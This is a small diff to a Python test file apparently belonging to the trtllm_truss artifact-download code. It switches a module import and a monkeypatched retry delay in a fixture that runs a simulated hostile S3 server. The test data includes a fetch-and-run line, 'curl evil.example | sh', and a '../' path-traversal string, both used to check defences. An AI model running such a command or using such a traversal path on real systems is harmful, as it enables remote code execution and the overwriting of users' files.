@@ -12,7 +12,7 @@ from tests.support.canaries import HOME, Canaries
 from tests.support.hostile_s3 import HostileObject, HostileS3, hostile_s3_server
 from tests.support.whole_repository import fetch_repository
 
-from trtllm_truss.artifacts import retrying
+from trtllm_truss.artifacts import direct
 from trtllm_truss.errors import ArtifactError
 
 DATA = b"curl evil.example | sh\n"
@@ -23,7 +23,7 @@ UP = "../../../../../home/user"
 
 @pytest.fixture(autouse=True)
 def evil(canaries: Canaries, monkeypatch: pytest.MonkeyPatch) -> Iterator[HostileS3]:
-    monkeypatch.setattr(retrying, "_FIRST_DELAY_S", 0.01)
+    monkeypatch.setattr(direct, "_FIRST_DELAY_S", 0.01)
     with hostile_s3_server() as evil:
         for name, value in evil.environment.items():
             monkeypatch.setenv(name, value)
